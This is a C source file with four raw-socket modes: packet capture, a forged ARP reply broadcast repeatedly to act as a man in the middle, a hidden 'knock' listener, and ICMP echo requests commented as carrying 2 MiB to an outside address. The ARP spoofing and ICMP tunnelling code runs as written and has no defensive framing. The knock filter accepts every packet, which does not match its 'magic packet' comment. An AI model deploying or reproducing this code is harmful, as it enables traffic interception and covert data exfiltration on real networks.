/* Packet and raw sockets: capture, forged ARP, a knock listener, data in echo requests. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/filter.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip_icmp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int capture(void)
{
    char buffer[2048];
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    struct pollfd ready = { fd, POLLIN, 0 };
    if (fd < 0 || poll(&ready, 1, 5000) != 1)
        return perror("packet socket"), 1;
    printf("packet of %zd bytes\n", read(fd, buffer, sizeof buffer));
    return 0;
}

/* Answers for an address that is not its own, as a man in the middle would. */
static int forge_arp(void)
{
    unsigned char frame[42] = { 255, 255, 255, 255, 255, 255, 2, 0, 0, 0, 0, 9, 8, 6, 0, 1, 8, 0,
                                6, 4, 0, 2, 2, 0, 0, 0, 0, 9, 10, 77, 0, 254, 255, 255, 255, 255,
                                255, 255, 10, 77, 0, 254 };
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
    struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0") };
    for (int count = 0; count < 20; count++)
        if (sendto(fd, frame, sizeof frame, 0, (void *)&to, sizeof to) < 0)
            return perror("arp"), 1;
    return 0;
}

/* A listener that no port shows: a raw socket with a filter that waits for a magic packet. */
static int knock(void)
{
    struct sock_filter code[] = { { BPF_RET | BPF_K, 0, 0, 0xffff } };
    struct sock_fprog program = { 1, code };
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    struct pollfd ready = { fd, POLLIN, 0 };
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program))
        return perror("filter"), 1;
    poll(&ready, 1, 300);
    return puts("waiting") < 0;
}

static unsigned short checksum(const unsigned short *words, size_t count)
{
    unsigned sum = 0;
    while (count--)
        sum += *words++;
    sum = (sum >> 16) + (sum & 0xffff);
    return (unsigned short)~(sum + (sum >> 16));
}

/* Carries 2 MiB away in the bodies of echo requests. */
static int echo_data(void)
{
    char packet[1408];
    struct icmphdr *head = (void *)packet;
    struct sockaddr_in to = { .sin_family = AF_INET };
    inet_pton(AF_INET, "203.0.113.10", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    for (int count = 0; count < 1500; count++) {
        memset(packet, 'A' + count % 26, sizeof packet);
        memset(head, 0, sizeof *head);
        head->type = ICMP_ECHO;
        head->un.echo.sequence = htons(count);
        head->checksum = checksum((void *)packet, sizeof packet / 2);
        if (sendto(fd, packet, sizeof packet, 0, (void *)&to, sizeof to) < 0)
            return perror("icmp"), 1;
    }
    return 0;
}

int main(int count, char **words)
{
    const char *way = count < 2 ? "" : words[1];
    if (!strcmp(way, "capture"))
        return capture();
    if (!strcmp(way, "arp"))
        return forge_arp();
    if (!strcmp(way, "knock"))
        return knock();
    return echo_data();
}
